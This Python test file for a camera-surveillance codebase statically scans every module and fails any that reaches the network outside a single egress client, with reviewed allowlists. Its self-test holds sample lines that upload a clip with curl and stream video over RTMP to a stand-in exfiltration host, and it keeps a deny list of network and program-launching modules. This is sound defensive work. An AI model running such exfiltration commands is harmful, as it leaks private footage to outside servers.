"""No code path may send anything to another server except through the egress client.

Every module under ``src/sereno`` is parsed; importing an outbound network client, calling a
connection primitive, starting a program (``curl`` would do) or opening media with PyAV/FFmpeg
(which speaks RTSP, HTTP and RTMP) fails this test unless the module is listed below with the
reason it is safe (``av.open`` on an in-memory ``io.BytesIO`` buffer needs no entry). A new
entry here is a security decision: it needs a review.
"""

from __future__ import annotations

import ast
from pathlib import Path

import sereno

SRC = Path(sereno.__file__).resolve().parent
THE_CLIENT = "governance/egress.py"

# Modules that open network connections, or libraries that do.
NETWORK_MODULES = (
    "urllib.request", "urllib3", "http.client", "httpx", "httpx2", "requests", "aiohttp",
    "socket", "ssl", "smtplib", "ftplib", "telnetlib", "imaplib", "poplib", "nntplib",
    "xmlrpc.client", "websocket", "websockets", "paramiko", "pycurl", "grpc", "boto3",
    "botocore", "nats", "paho", "kafka", "zmq", "subprocess", "multiprocessing.connection",
    "ftputil", "smbclient", "webbrowser",
)
# Calls that open connections whatever module they come from, and ``os`` calls that start
# programs (``os.system("curl …")`` would do).
NETWORK_CALLS = frozenset({
    "urlopen", "create_connection", "open_connection", "create_datagram_endpoint",
    "sock_connect", "start_tls", "Popen", "VideoWriter",
})
OS_PROGRAM_CALLS = frozenset({
    "system", "popen", "spawnl", "spawnlp", "spawnv", "spawnvp", "spawnve", "execv", "execve",
    "execvp", "execl", "execlp", "execle", "posix_spawn", "posix_spawnp", "startfile",
})

# PyAV (FFmpeg) can read from and write to network URLs. Each module allowed to call
# ``av.open`` says why that cannot send footage elsewhere.
AV_OPEN_ALLOWED = {
    "video/ingest/reader.py": "camera ingest: opens a registered camera's stream URL (camera "
                              "registry, validate_stream_url) for reading only",
    "video/recording/recorder.py": "recording: reads a registered camera's main stream; writes "
                                   "only to an in-memory probe and local segment files",
    "adapters/video/snapshots.py": "snapshots and stream health: reads a registered camera's "
                                   "stream URL, or a file under the allowed file roots",
    "video/recording/clips.py": "clips: reads local segment files, writes local files or an "
                                "in-memory sink served by the API",
    "video/recording/segments.py": "segments: local files under the recordings root",
    "demo/media.py": "demo clips: local files under the media root",
}

# Modules allowed to import one network library, each with the reason. Only that library: any
# other network import in the module still fails.
NETWORK_IMPORT_ALLOWED = {
    "adapters/bus/jetstream.py": ("nats", "the message bus's transport (ADR 0024): connects "
                                  "only to the node's own NATS server, bus.nats_url in the "
                                  "operator's settings, never to a destination chosen by data "
                                  "or users"),
    "governance/mqtt_egress.py": ("paho", "the MQTT client of alert integrations (ADR 0029): "
                                  "every connection is first checked by the egress client "
                                  "(authorize_connection) against the approved mqtt "
                                  "destinations, then goes to the checked address only"),
}


def _modules() -> list[Path]:
    return sorted(p for p in SRC.rglob("*.py") if "__pycache__" not in p.parts)


def _name(path: Path) -> str:
    return path.relative_to(SRC).as_posix()


def _imported(tree: ast.AST) -> list[tuple[int, str]]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [(node.lineno, alias.name) for alias in node.names]
        elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
            found += [(node.lineno, node.module)]
            found += [(node.lineno, f"{node.module}.{alias.name}") for alias in node.names]
        elif (isinstance(node, ast.Call) and _called(node) in ("__import__", "import_module")
              and node.args and isinstance(node.args[0], ast.Constant)):
            found.append((node.lineno, str(node.args[0].value)))
    return found


def _is_network(module: str) -> bool:
    return any(module == m or module.startswith(m + ".") for m in NETWORK_MODULES)


def _called(node: ast.Call) -> str | None:
    if isinstance(node.func, ast.Attribute):
        return node.func.attr
    if isinstance(node.func, ast.Name):
        return node.func.id
    return None


def _is_buffer_call(node: ast.AST) -> bool:
    return isinstance(node, ast.Call) and _called(node) == "BytesIO"


def _memory_buffers(tree: ast.AST) -> set[str]:
    """Names only ever bound to ``io.BytesIO(...)`` in the module: media opened on them stays in
    memory, whatever FFmpeg can do with a URL."""
    bound: dict[str, bool] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Name):
                    bound[target.id] = bound.get(target.id, True) and _is_buffer_call(node.value)
    return {name for name, only_buffers in bound.items() if only_buffers}


def _is_memory(node: ast.AST, buffers: set[str]) -> bool:
    return _is_buffer_call(node) or (isinstance(node, ast.Name) and node.id in buffers)


def _violations(path: Path) -> list[str]:
    return _violations_in(_name(path), path.read_text(encoding="utf-8"))


def _violations_in(name: str, text: str) -> list[str]:
    if name == THE_CLIENT:
        return []
    tree = ast.parse(text, filename=name)
    allowed = NETWORK_IMPORT_ALLOWED.get(name, ("", ""))[0]
    problems = [f"{name}:{line} imports {module}" for line, module in _imported(tree)
                if _is_network(module)
                and not (allowed and (module == allowed or module.startswith(allowed + ".")))]
    in_memory = _memory_buffers(tree)
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        called = _called(node)
        if called in NETWORK_CALLS:
            problems.append(f"{name}:{node.lineno} calls {called}()")
        if (called in OS_PROGRAM_CALLS and isinstance(node.func, ast.Attribute)
                and isinstance(node.func.value, ast.Name) and node.func.value.id == "os"):
            problems.append(f"{name}:{node.lineno} starts a program with os.{called}()")
        if (called == "open" and isinstance(node.func, ast.Attribute)
                and isinstance(node.func.value, ast.Name) and node.func.value.id == "av"
                and name not in AV_OPEN_ALLOWED
                and not (node.args and _is_memory(node.args[0], in_memory))):
            problems.append(f"{name}:{node.lineno} opens media with av.open (FFmpeg speaks "
                            "network protocols): add it to AV_OPEN_ALLOWED with a reason")
    return problems


def test_only_the_egress_client_talks_to_other_servers() -> None:
    problems = [p for path in _modules() for p in _violations(path)]
    assert problems == [], ("outbound network access outside sereno/governance/egress.py:\n"
                            + "\n".join(problems))


def test_the_allowlist_has_no_stale_entries() -> None:
    names = {_name(p) for p in _modules()}
    assert THE_CLIENT in names
    assert set(AV_OPEN_ALLOWED) <= names, set(AV_OPEN_ALLOWED) - names
    assert set(NETWORK_IMPORT_ALLOWED) <= names, set(NETWORK_IMPORT_ALLOWED) - names


def test_the_scanner_catches_what_it_should() -> None:
    samples = {
        "a.py": "import urllib.request\n",
        "b.py": "from http import client\n",  # http.client via from-import
        "c.py": "import socket as s\ns.create_connection(('x', 1))\n",
        "d.py": "import importlib\nimportlib.import_module('requests')\n",
        "e.py": "import av\nav.open('rtmp://exfil.example/live', 'w')\n",
        "f.py": "from subprocess import run\n",
        "g.py": "import asyncio\nasyncio.open_connection('x', 1)\n",
        "h.py": "import os\nos.system('curl -T clip.mp4 https://exfil.example')\n",
    }
    for file_name, text in samples.items():
        assert _violations_in(file_name, text), file_name
    harmless = "from sereno.domain.access import Principal\nwho = Principal.system('x', 'y')\n"
    assert _violations_in("i.py", harmless) == []
    in_memory = "import av, io\nout = io.BytesIO()\nav.open(out, 'w')\nav.open(io.BytesIO(b''))\n"
    assert _violations_in("j.py", in_memory) == []
    rebound = "import av, io\nout = io.BytesIO()\nout = 'rtmp://x/y'\nav.open(out, 'w')\n"
    assert _violations_in("k.py", rebound)
    # The bus transport may import nats, and nothing else that talks to the network.
    assert _violations_in("adapters/bus/jetstream.py", "import nats.js\n") == []
    assert _violations_in("adapters/bus/jetstream.py", "import socket\n")
    assert _violations_in("adapters/bus/in_process.py", "import nats\n")
    # The MQTT client may import paho, and nothing else that talks to the network.
    assert _violations_in("governance/mqtt_egress.py", "import paho.mqtt.client\n") == []
    assert _violations_in("governance/mqtt_egress.py", "import socket\n")
    assert _violations_in("services/integrations.py", "import paho.mqtt.client\n")
